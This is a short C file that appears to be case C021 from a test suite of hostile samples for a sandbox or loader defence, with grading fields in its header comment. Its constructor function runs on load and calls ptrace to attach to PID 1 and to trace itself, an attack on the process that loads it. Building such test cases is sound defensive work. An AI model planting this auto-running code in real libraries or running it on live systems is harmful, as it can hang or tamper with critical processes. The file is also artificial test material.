/* Case: C021 patch-stub
 * Attacks: the process that loads it: ptrace on the first process of the box
 * On-reference: worse
 * Undefended: stuck */
#include <sys/ptrace.h>

__attribute__((constructor)) static void trace_parent(void)
{
	ptrace(PTRACE_ATTACH, 1, 0, 0);
	ptrace(PTRACE_TRACEME, 0, 0, 0);
}
